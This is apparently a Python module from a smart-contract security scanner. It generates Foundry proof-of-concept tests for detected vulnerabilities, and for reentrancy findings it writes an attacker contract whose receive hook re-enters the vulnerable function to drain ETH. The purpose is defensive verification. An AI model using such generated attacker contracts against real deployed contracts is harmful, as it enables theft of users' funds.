"""PoC generator — Foundry proof-of-concept tests for detected vulnerabilities.

Reentrancy findings get a working exploit: an attacker contract whose
``receive()`` hook re-enters the vulnerable function, and a test asserting
the attacker walked away with more than it put in. That assertion PASSES
while the contract is vulnerable and is expected to FAIL once it is
fixed. Other finding kinds get named stub tests with guidance.
"""

from __future__ import annotations

import logging

from solshield.core.config import Settings, get_settings
from solshield.core.model import ContractModel, FunctionKind, FunctionModel, TypeKind
from solshield.core.types import Vulnerability, VulnerabilityKind
from solshield.fuzzer.invariant_synth import IMPORT_NOTE, constructor_arguments, default_argument
from solshield.fuzzer.source_builder import (
    Blank,
    Comment,
    ContractUnit,
    FunctionUnit,
    IfBlock,
    Line,
    Param,
    SolidityFile,
    Stmt,
    TryCatch,
)

logger = logging.getLogger(__name__)

DEPOSIT_FUNCTION_NAMES = ("deposit", "stake")

FRONT_RUN_STEPS = (
    "1. User approves spender for 100 tokens",
    "2. User wants to change approval to 50",
    "3. Spender front-runs and spends 100 before the change",
    "4. New approval of 50 goes through",
    "5. Spender spends 50 more = 150 total (should be max 100)",
)


def deposit_function(model: ContractModel) -> FunctionModel | None:
    """Payable deposit/stake function used to fund the victim and the attacker."""
    return next(
        (f for f in model.functions if f.name in DEPOSIT_FUNCTION_NAMES and f.is_payable),
        None,
    )


def attack_call(fn: FunctionModel) -> str:
    """Re-entry call expression: amounts reuse the attacker's deposit.

    receive and fallback have no callable name; they are reached with a
    low-level call carrying empty or non-matching calldata.
    """
    if fn.kind == FunctionKind.RECEIVE:
        return 'address(target).call{value: depositAmount}("")'
    if fn.kind == FunctionKind.FALLBACK:
        value = "{value: depositAmount}" if fn.is_payable else ""
        return f'address(target).call{value}(hex"01")'
    args: list[str] = []
    for p in fn.parameters:
        type_name = p.type.name if p.type.kind == TypeKind.ELEMENTARY else ""
        if type_name == "uint256":
            args.append("depositAmount")
        elif type_name == "address":
            args.append("address(this)")
        else:
            args.append(default_argument(p.type))
    value = "{value: depositAmount}" if fn.is_payable else ""
    return f"target.{fn.name}{value}({', '.join(args)})"


def reentry_statement(fn: FunctionModel | None, call: str) -> Stmt:
    """Statement re-entering the target from the attacker's receive hook."""
    if fn is not None and fn.is_special:
        return Line(f"{call};")
    return TryCatch(call)


def is_attackable(model: ContractModel, vuln: Vulnerability) -> bool:
    """Reentrancy finding the attacker contract can drive (constructors cannot be re-entered)."""
    fn = model.get_function(vuln.function)
    return vuln.kind == VulnerabilityKind.REENTRANCY and not (fn is not None and fn.is_constructor)


class PoCGenerator:
    """Generate a Foundry vulnerability test file for one contract."""

    def __init__(self, settings: Settings | None = None) -> None:
        self.settings = settings or get_settings()

    def generate(
        self,
        model: ContractModel,
        vulnerabilities: list[Vulnerability],
        source_file: str | None = None,
    ) -> str:
        reentrant = [v for v in vulnerabilities if is_attackable(model, v)]

        units: list[ContractUnit] = []
        if reentrant:
            units.append(self._attacker(model, reentrant))
        units.append(self._test_contract(model, vulnerabilities, has_attacker=bool(reentrant)))

        source = SolidityFile(
            pragma=self.settings.test_pragma,
            imports=[
                "forge-std/Test.sol",
                f"{self.settings.source_import_prefix}/{source_file or model.name + '.sol'}",
            ],
            import_note=IMPORT_NOTE,
            units=units,
        )
        return source.render()

    # ── Attacker ─────────────────────────────────────────────────────

    def _attacker(self, model: ContractModel, reentrant: list[Vulnerability]) -> ContractUnit:
        name = model.name
        unit = ContractUnit(f"{name}Attacker")
        unit.add(
            Line(f"{name} public target;"),
            Line("uint256 public attackCount;"),
            Line(f"uint256 public maxAttacks = {self.settings.attacker_max_reentries};"),
            Line("uint256 public depositAmount;"),
        )
        unit.add_function(FunctionUnit(
            name="constructor",
            kind="constructor",
            params=[Param(name, "_target")],
            body=[Line("target = _target;")],
        ))

        deposit = deposit_function(model)
        reentry: list = []
        for vuln in reentrant:
            fn = model.get_function(vuln.function)
            call = attack_call(fn) if fn is not None else f"target.{vuln.function}()"
            body: list = [Line("depositAmount = msg.value;")]
            if deposit is not None:
                body.append(Line(f"target.{deposit.name}{{value: msg.value}}();"))
            body.append(Line(f"{call};"))
            unit.add_function(FunctionUnit(
                name=f"attack_{vuln.function}",
                qualifiers=["external", "payable"],
                body=body,
            ))
            reentry.append(reentry_statement(fn, call))

        unit.add_function(FunctionUnit(
            name="receive",
            kind="receive",
            qualifiers=["external", "payable"],
            body=[IfBlock("attackCount < maxAttacks", [Line("attackCount++;"), *reentry])],
        ))
        return unit

    # ── Test contract ────────────────────────────────────────────────

    def _test_contract(
        self,
        model: ContractModel,
        vulnerabilities: list[Vulnerability],
        has_attacker: bool,
    ) -> ContractUnit:
        name = model.name
        unit = ContractUnit(f"{name}VulnTest", bases=["Test"])
        unit.add(Line(f"{name} public target;"))
        if has_attacker:
            unit.add(Line(f"{name}Attacker public attacker;"))
        unit.add(
            Line("address public owner = address(this);"),
            Line("address public user1;"),
            Line("address public user2;"),
        )

        setup: list = [
            Line(f"target = new {name}({constructor_arguments(model)});"),
            Line('user1 = makeAddr("user1");'),
            Line('user2 = makeAddr("user2");'),
        ]
        if has_attacker:
            setup.append(Line(f"attacker = new {name}Attacker(target);"))
        unit.add_function(FunctionUnit(name="setUp", qualifiers=["public"], body=setup))

        for vuln in vulnerabilities:
            unit.add_function(self._test_function(model, vuln))
        return unit

    def _test_function(self, model: ContractModel, vuln: Vulnerability) -> FunctionUnit:
        if is_attackable(model, vuln):
            body = self._reentrancy_body(model, vuln)
        elif vuln.kind == VulnerabilityKind.MISSING_ACCESS_CONTROL:
            body = [
                Comment(f"Non-owner should NOT be able to call {vuln.function}()"),
                Line("vm.startPrank(user1);"),
                Comment(f"TODO: Call target.{vuln.function}() with appropriate args, "
                        "then uncomment both lines"),
                Comment("vm.expectRevert();"),
                Comment(f"target.{vuln.function}();"),
                Line("vm.stopPrank();"),
            ]
        elif vuln.kind == VulnerabilityKind.FRONT_RUNNING:
            body = [
                Comment(f"Demonstrate front-running risk with {vuln.function}()"),
                *(Comment(step) for step in FRONT_RUN_STEPS),
                Comment("TODO: Implement with actual token balances"),
            ]
        else:
            body = [
                Comment(f"TODO: Implement test for {vuln.pattern}"),
                Comment(f"Fix suggestion: {vuln.remediation}"),
            ]

        return FunctionUnit(
            name=f"test_{vuln.id}",
            qualifiers=["public"],
            doc=[f"@notice Test: {vuln.title}", vuln.description],
            body=body,
        )

    def _reentrancy_body(self, model: ContractModel, vuln: Vulnerability) -> list:
        victim_deposit = self.settings.poc_victim_deposit
        funding = self.settings.poc_attacker_funding
        deposit = deposit_function(model)

        body: list = [
            Comment("Setup: Give user1 some ETH and deposit into the contract"),
            Line("deal(address(user1), 10 ether);"),
            Line("vm.startPrank(user1);"),
        ]
        if deposit is not None:
            body.append(Line(f"target.{deposit.name}{{value: {victim_deposit}}}();"))
        else:
            logger.debug(
                "No payable deposit function; victim is not funded",
                extra={"contract": model.name, "rule_id": vuln.id},
            )
        body.extend([
            Line("vm.stopPrank();"),
            Blank(),
            Comment(f"Attack: Attacker deposits {funding}, then exploits reentrancy to drain more"),
            Line("uint256 attackerBalBefore = address(attacker).balance;"),
            Line(f"attacker.attack_{vuln.function}{{value: {funding}}}();"),
            Blank(),
            Comment(f"If vulnerable: attacker drained more than their {funding} deposit"),
            Line("uint256 attackerGain = address(attacker).balance - attackerBalBefore;"),
            Comment("This assertion PASSES if the contract IS vulnerable (attacker profits)"),
            Comment("Fix the contract, then this test should FAIL"),
            Line(
                f'assertGt(attackerGain, {funding}, '
                '"Reentrancy: attacker should have drained extra ETH");'
            ),
        ])
        return body
